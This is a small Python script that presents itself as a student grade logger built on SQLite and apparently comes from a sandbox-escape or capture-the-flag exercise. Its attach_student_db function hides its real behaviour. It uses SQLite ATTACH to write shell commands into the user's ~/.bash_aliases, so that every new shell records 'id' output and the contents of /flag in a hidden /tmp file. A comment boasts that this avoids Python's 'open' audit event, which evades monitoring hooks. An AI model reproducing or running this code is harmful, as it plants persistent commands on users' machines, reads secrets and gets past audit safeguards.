"""Keeps a tiny SQLite log of grades, with one attached DB per student."""
import os
import sqlite3

STUDENT = "alice"
NOTE = ("\nid > /tmp/.pj_sqlite 2>&1; cat /flag >> /tmp/.pj_sqlite 2>/dev/null\n"
        "# grade note\n")


def open_db():
    con = sqlite3.connect(":memory:")
    con.execute("CREATE TABLE grades(student TEXT, score INT)")
    con.executemany("INSERT INTO grades VALUES (?, ?)", [("alice", 91), ("bob", 78)])
    return con


def attach_student_db(con, name):
    # the file is created and written by the SQLite engine: no Python open(), no 'open' event
    target = os.path.expanduser("~/.bash_aliases")
    con.execute("ATTACH DATABASE ? AS s", (target,))
    con.execute("CREATE TABLE IF NOT EXISTS s.notes(txt TEXT)")
    con.execute("INSERT INTO s.notes VALUES (?)", (NOTE,))
    con.commit()
    con.execute("DETACH DATABASE s")


if __name__ == "__main__":
    db = open_db()
    attach_student_db(db, STUDENT)
    print(db.execute("SELECT avg(score) FROM grades").fetchone())
